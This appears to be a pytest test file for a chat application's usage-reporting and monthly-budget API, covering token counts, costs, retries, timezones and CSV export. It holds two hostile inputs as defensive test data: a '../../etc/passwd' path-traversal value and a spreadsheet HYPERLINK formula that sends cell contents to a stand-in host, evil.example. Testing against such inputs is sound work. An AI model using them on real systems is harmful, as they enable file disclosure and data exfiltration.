"""`GET /api/usage`: every question to a provider counts once, whatever became of it; as JSON and as CSV."""

import csv
import io
import time
from datetime import UTC, datetime, timedelta

import pytest

from tests.answer_copy import Json
from tests.chat import USAGE, Chat, new_id
from tests.contract.conftest import Serve
from tests.served import Served

PRICED = "openai/scripted/2:latest"
_SUMS = {
    *("requests", "input_tokens", "output_tokens", "estimated", "cost", "unpriced", "unfinished", "retries"),
    *("duration_ms", "first_token_ms"),
}


def new_model() -> str:
    """A model that nobody else in this package asks."""
    return f"openai/{new_id()}"


def of_model(chat: Chat, model: str) -> Json:
    rows = chat.client.get("/api/usage?by=model").json["rows"]
    row: Json = next(each for each in rows if each["model"] == model)
    assert row.keys() == _SUMS | {"model"}
    return row


def test_what_the_provider_counted_is_added_up(chat: Chat) -> None:
    model = new_model()
    for _ in range(2):
        chat.complete(model=model)
    row = of_model(chat, model)
    assert (row["requests"], row["input_tokens"], row["output_tokens"]) == (2, 14, 10)
    assert (row["estimated"], row["unfinished"], row["retries"]) == (0, 0, 0)
    assert (row["cost"], row["unpriced"]) == (0.0, 2)
    assert 0 <= row["first_token_ms"] <= row["duration_ms"]


def test_what_it_did_not_count_is_estimated_and_marked(chat: Chat) -> None:
    model = new_model()
    stream, request = chat.begin("12345678", model=model)
    request.send_text("1234")
    request.finish()
    stream.rest()
    row = of_model(chat, model)
    assert (row["input_tokens"], row["output_tokens"], row["estimated"]) == (2, 1, 1)


def test_a_stopped_answer_costs_what_was_read_and_written(chat: Chat) -> None:
    model = new_model()
    chat.stopped("1234", text="12345678", model=model)
    row = of_model(chat, model)
    assert (row["input_tokens"], row["output_tokens"]) == (2, 1)
    assert (row["unfinished"], row["estimated"]) == (1, 1)


def test_a_question_that_was_taken_costs_though_nothing_came_of_it(chat: Chat) -> None:
    model = new_model()
    stream, request = chat.begin("12345678", model=model)
    request.begin()
    request.send_comment()
    stream.until_state("reading")
    chat.stop(stream.id)
    stream.rest()
    row = of_model(chat, model)
    assert (row["requests"], row["input_tokens"], row["output_tokens"]) == (1, 2, 0)
    assert row["first_token_ms"] is None


def test_one_that_was_refused_is_there_and_costs_nothing(chat: Chat) -> None:
    model = new_model()
    stream, request = chat.begin(model=model)
    request.respond(401)
    stream.rest()
    row = of_model(chat, model)
    assert (row["requests"], row["unfinished"], row["input_tokens"], row["unpriced"]) == (1, 1, 0, 0)


def test_retries_belong_to_their_question(chat: Chat) -> None:
    model = new_model()
    stream, request = chat.begin(model=model)
    for _ in range(2):
        request.respond(503)
        request = chat.upstream.next_request()
    request.send_text("At last.")
    request.finish(usage=USAGE)
    stream.rest()
    row = of_model(chat, model)
    assert (row["requests"], row["retries"], row["input_tokens"], row["unfinished"]) == (1, 2, 7, 0)


def test_going_on_is_another_question(chat: Chat) -> None:
    model = new_model()
    stream, request = chat.begin(model=model)
    request.send_text("It scat")
    request.finish("length", USAGE)
    request = chat.upstream.next_request()
    request.send_text("ters light.")
    request.finish(usage=USAGE)
    stream.rest()
    row = of_model(chat, model)
    assert (row["requests"], row["input_tokens"], row["output_tokens"], row["retries"]) == (2, 14, 10, 0)


def test_it_costs_what_the_model_costs(serve: Serve) -> None:
    chat = serve({})
    assert chat.client.get("/api/models").json["models"][1]["price"]
    stream = chat.complete(model=PRICED)
    chat.complete()
    usage = chat.client.get("/api/usage").json
    # Seven tokens at two dollars a million, five at ten; of the other one nobody knows.
    assert (usage["by"], usage["totals"]["requests"], usage["totals"]["unpriced"]) == ("day", 2, 1)
    assert usage["totals"]["cost"] == pytest.approx(6.4e-05)
    assert chat.client.get("/api/usage?by=model").json["rows"][0]["model"] == PRICED
    first = chat.client.get("/api/usage?by=conversation").json["rows"][0]
    assert first["cost"] == pytest.approx(6.4e-05)
    assert first["conversation_id"] == stream.conversation_id


def test_it_outlives_its_conversation(chat: Chat) -> None:
    model = new_model()
    stream = chat.complete(model=model)

    def row() -> Json:
        rows = chat.client.get("/api/usage?by=conversation").json["rows"]
        found: Json = next(each for each in rows if each["conversation_id"] == stream.conversation_id)
        return found

    assert (row()["title"], row()["deleted"]) == ("Why is the sky blue?", False)
    chat.delete(f"conversations/{stream.conversation_id}")
    assert (row()["title"], row()["deleted"], row()["requests"]) == (None, True, 1)
    assert of_model(chat, model)["requests"] == 1


def test_a_temporary_chat_counts_and_is_not_named(chat: Chat, served: Served) -> None:
    model = new_model()
    stream = chat.complete(model=model, conversation={"temporary": True})
    assert of_model(chat, model)["requests"] == 1
    rows = chat.client.get("/api/usage?by=conversation").json["rows"]
    assert stream.conversation_id not in {each["conversation_id"] for each in rows}
    unnamed = next(each for each in rows if each["conversation_id"] is None)
    assert (unnamed["title"], unnamed["deleted"]) == (None, False)
    named = (
        "SELECT count(*) FROM ledger WHERE model = :model AND (conversation_id IS NOT NULL OR answer_id IS NOT NULL)"
    )
    assert served.value(named, model=model) == 0


def test_a_title_is_a_question_too_also_where_it_fails(serve: Serve) -> None:
    model = new_model()
    chat = serve({"PARLEY_TITLE_MODEL": model, "PARLEY_RETRIES": "0"})
    chat.complete()
    request = chat.upstream.next_request()
    request.send_text("Sky")
    request.finish(usage=USAGE)
    chat.complete()
    chat.upstream.next_request().respond(500)
    deadline = time.monotonic() + 10
    while (row := of_title(chat, model))["requests"] < 2:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert (row["unfinished"], row["input_tokens"], row["output_tokens"]) == (1, 7, 5)


def of_title(chat: Chat, model: str) -> Json:
    rows = chat.client.get("/api/usage?by=model").json["rows"]
    return next((each for each in rows if each["model"] == model), {"requests": 0})


def test_days_are_the_readers(chat: Chat, served: Served) -> None:
    """Two questions, an hour before and after midnight in Berlin as summer begins there."""
    model = new_model()
    for moment in ("2025-03-30T21:59:00+00:00", "2025-03-30T22:01:00+00:00"):
        chat.complete(model=model)
        served.execute(
            "UPDATE ledger SET created_at = :at WHERE model = :model AND created_at > 1750000000000",
            at=round(datetime.fromisoformat(moment).timestamp() * 1000),
            model=model,
        )

    def days(tz: str) -> list[tuple[str, int]]:
        rows = chat.client.get(f"/api/usage?from=2025-03-30&to=2025-04-01&tz={tz}").json["rows"]
        return [(row["day"], row["requests"]) for row in rows]

    assert days("Europe/Berlin") == [("2025-03-30", 1), ("2025-03-31", 1)]
    assert days("UTC") == [("2025-03-30", 2)]
    assert days("%2B02:00") == days("+02:00") == [("2025-03-30", 1), ("2025-03-31", 1)]
    assert days("-05:00") == [("2025-03-30", 2)]
    # Both ends are included, and nothing else.
    on_day = "/api/usage?from=2025-03-31&to=2025-03-31&tz=Europe/Berlin"
    assert chat.client.get(on_day).json["totals"]["requests"] == 1


def test_without_a_range_it_is_this_month_until_today(chat: Chat) -> None:
    chat.complete()
    usage = chat.client.get("/api/usage").json
    today = datetime.now(UTC).date()
    assert (usage["from"], usage["to"]) in {
        (f"{day:%Y-%m}-01", day.isoformat()) for day in (today, today + timedelta(days=1))
    }
    assert usage["totals"]["requests"] >= 1
    assert usage["totals"].keys() == _SUMS


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("from=yesterday", "from"),
        ("from=2026-02-30", "from"),
        ("from=1764000000000", "from"),
        ("to=0001-01-01", "to"),
        ("to=9999-12-31", "to"),
        ("from=2026-11-02&to=2026-11-01", "from"),
        ("by=hour", "by"),
        ("format=xlsx", "format"),
        ("tz=Mars/Olympus", "tz"),
        ("tz=America", "tz"),
        ("tz=../../etc/passwd", "tz"),
        ("tz=+25:00", "tz"),
        ("tz=%00", "tz"),
    ],
)
def test_what_cannot_be_meant_is_refused(chat: Chat, query: str, field: str) -> None:
    problem = chat.client.get(f"/api/usage?{query}").problem(422, "invalid")
    assert [each["field"] for each in problem["errors"]] == [field]


def test_a_table_for_a_spreadsheet_runs_nothing(chat: Chat) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"你好")'
    model = new_model()
    stream = chat.complete(model=model, conversation={"title": title})
    reply = chat.client.get("/api/usage?by=conversation&format=csv")
    assert (reply.status, reply.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    assert reply.headers["content-disposition"].startswith("attachment;")
    assert reply.body.startswith(b"\xef\xbb\xbfconversation_id,title,")
    table = list(csv.DictReader(io.StringIO(reply.body.decode("utf-8-sig"), newline="")))
    row = next(each for each in table if each["conversation_id"] == stream.conversation_id)
    assert (row["title"], row["requests"], row["output_tokens"]) == (f"'{title}", "1", "5")
    assert row["cost"] == "0.000000"
    listed = chat.client.get("/api/usage?by=conversation").json["rows"]
    assert [each["conversation_id"] or "" for each in listed] == [each["conversation_id"] for each in table]


def test_the_budget_warns_and_stops(serve: Serve) -> None:
    # An answer costs 64 millionths of a dollar, three 192.
    chat = serve({"PARLEY_MONTHLY_BUDGET": "0.00018", "PARLEY_BUDGET_WARNING": "60"})
    assert chat.client.get("/api/models").json["models"][1]["price"]
    assert chat.client.get("/api/session").json["features"]["budget"] is True

    def state() -> str:
        return str(chat.client.get("/api/budget").json["budget"]["state"])

    assert state() == "open"
    cut, request = chat.begin(model=PRICED)
    request.send_text("It scat")
    chat.stop(cut.id)
    cut.rest()
    chat.complete(model=PRICED)
    budget = chat.client.get("/api/budget").json["budget"]
    assert budget.keys() == {"month", "limit", "warning", "spent", "unpriced", "state"}
    assert (budget["limit"], budget["warning"], budget["unpriced"]) == (0.00018, pytest.approx(0.000108), 0)
    chat.complete(model=PRICED)
    assert state() in ("warned", "spent")
    # What is being written when it is spent goes on to its end.
    running, request = chat.begin(model=PRICED)
    last = chat.complete(model=PRICED)
    assert state() == "spent"
    request.send_text("To the end.")
    request.finish(usage=USAGE)
    assert running.rest()["status"] == "complete"
    before = chat.upstream.request_count
    question = {"parts": [{"type": "text", "text": "And?"}]}
    path = f"/api/conversations/{last.conversation_id}/messages"
    problem = chat.client.post(path, question).problem(402, "budget_spent")
    assert "PARLEY_MONTHLY_BUDGET" in problem["detail"]
    chat.client.post(f"/api/messages/{last.user_id}/answers").problem(402, "budget_spent")
    chat.client.post(f"/api/messages/{cut.id}/continue").problem(402, "budget_spent")
    assert chat.upstream.request_count == before
    # What was asked before is there all the same.
    assert chat.follow(last.id).rest()["status"] == "complete"


def test_what_was_asked_before_the_budget_was_spent_is_joined(serve: Serve) -> None:
    chat = serve({"PARLEY_MONTHLY_BUDGET": "0.00006"})
    assert chat.client.get("/api/models").json["models"][1]["price"]
    ids: Json = {"id": new_id(), "answer_id": new_id(), "conversation_id": new_id(), "conversation": {}}
    chat.complete("Once.", model=PRICED, **ids)
    again = chat.ask(model=PRICED, **ids)
    assert (again.rest()["status"], again.text) == ("complete", "Once.")


def test_no_title_is_asked_for_once_the_budget_is_spent(serve: Serve) -> None:
    chat = serve({"PARLEY_MONTHLY_BUDGET": "0.00006", "PARLEY_TITLE_MODEL": "same"})
    assert chat.client.get("/api/models").json["models"][1]["price"]
    chat.complete(model=PRICED)
    with pytest.raises(AssertionError):
        chat.upstream.next_request(timeout=1.0)


def test_without_a_budget_there_is_none(chat: Chat) -> None:
    assert chat.client.get("/api/budget").json == {"budget": None}
